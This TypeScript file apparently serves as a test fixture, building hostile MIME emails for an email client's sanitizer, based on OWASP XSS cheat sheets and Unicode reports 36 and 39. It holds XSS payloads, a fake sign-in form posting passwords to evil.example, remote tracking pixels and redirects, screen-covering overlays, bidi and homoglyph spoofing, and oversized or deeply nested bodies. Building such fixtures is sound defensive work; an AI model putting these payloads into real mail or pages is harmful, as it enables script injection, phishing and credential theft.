/**
 * Mails as strangers would write them to run script, load something, or mislead the eye: the tricks that the OWASP cheat sheets on
 * cross-site scripting and the Unicode reports 36 and 39 describe, each written anew.
 */
const run = 'window.pwned=1';
const tricks = {
  run: [
    `<script>${run}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<img src=x onerror="${run}"><svg/onload=${run}><body onload=${run}><details open ontoggle=${run}><video><source onerror=${run}>`,
    `<img """><script>${run}</script>"><a href="jav&#x09;ascript:${run}">x</a><<img src=x onerror=${run}//`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><img src=x onerror=${run}></template>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ],
  lead: [
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe><object data="javascript:${run}"></object><embed src="data:text/html,<script>${run}</script>">`,
    '<form action="https://evil.example/steal"><input name=password type=password autofocus><button>Sign in again</button></form>',
    '<img src="https://evil.example/pixel.png"><link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";body{display:none}</style>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended</div>',
  ],
  mislead: [
    `![x](https://evil.example/p.png) [Approve](javascript:${run}) [in](https://evil.example "t") ![[secret.png]] <https://evil.example>`,
    'Please pay inv\u202Ecod.exe to pay\u200Bpal \u{E0041}\u{E0042} p\u0430yp\u0430l.example',
  ],
  giant: ['W'.repeat(300_000)],
  deep: [`${'<div>'.repeat(5_000)}deep${'</div>'.repeat(5_000)}`],
};

/** By name: the message as bytes would arrive, with the trick in every place that is shown. */
export const hostileMails: ReadonlyMap<string, string> = new Map(
  Object.entries(tricks).map(([name, parts]) => {
    const body = parts.join('\n\n');
    const short = body.slice(0, 300);
    const encoded = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
    return [
      name,
      [
        `From: ${encoded(`"><img src=x onerror=${run}> ${name}`)} <stranger@evil.example>`,
        'To: office@acme.test',
        `Subject: ${encoded(`Trick ${name} ${short}`)}`,
        `Message-ID: <${name}@evil.example>`,
        'Date: Mon, 02 Mar 2026 09:00:00 +0000',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="b"',
        '',
        '--b',
        'Content-Type: multipart/alternative; boundary="c"',
        '',
        '--c',
        'Content-Type: text/plain; charset=utf-8',
        'Content-Transfer-Encoding: base64',
        '',
        wrapped(body),
        '--c',
        'Content-Type: text/html; charset=utf-8',
        'Content-Transfer-Encoding: base64',
        '',
        wrapped(`<html><body>${body}</body></html>`),
        '--c--',
        '--b',
        `Content-Type: text/html; name="${encoded(`<img src=x onerror=${run}>.html`)}"`,
        'Content-Disposition: attachment',
        'Content-Transfer-Encoding: base64',
        '',
        wrapped(`<script>${run}</script>`),
        '--b--',
        '',
      ].join('\r\n'),
    ];
  }),
);

/** Base64 in lines of 76 signs, as RFC 2045 has it. */
function wrapped(text: string): string {
  return Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n');
}
